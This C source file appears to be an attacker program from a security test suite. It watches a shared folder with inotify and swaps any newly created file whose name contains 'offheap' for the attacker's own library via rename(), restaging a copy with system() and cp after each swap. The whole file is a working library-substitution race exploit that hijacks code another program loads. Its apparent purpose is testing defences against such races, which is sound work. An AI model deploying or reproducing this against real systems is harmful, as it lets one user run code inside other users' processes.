/* Another user of an open folder: exchanges every new file there whose name is an agent's for a library of his own, for as long as it
 * lives: exchanger FOLDER LIBRARY. Harm: 5. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char **words) {
    int events = inotify_init();
    if (argc < 3 || chdir(words[1])) return 1;
    inotify_add_watch(events, ".", IN_CREATE | IN_MOVED_TO | IN_CLOSE_WRITE);
    char bytes[8192] __attribute__((aligned(8)));
    puts("READY");
    fflush(stdout);
    for (int k = 0;;) {
        ssize_t n = read(events, bytes, sizeof bytes);
        for (char *p = bytes; p < bytes + n;) {
            struct inotify_event *e = (struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (!e->len || !strstr(e->name, "offheap") || !strncmp(e->name, "mine", 4)) continue;
            /* A copy each time, made before, so that the exchange itself is one call. */
            char mine[64], command[600];
            snprintf(mine, sizeof mine, "mine%d", k++);
            if (rename("mine", e->name)) continue;
            snprintf(command, sizeof command, "cp '%s' mine", words[2]);
            if (system(command)) return 2;
        }
    }
}
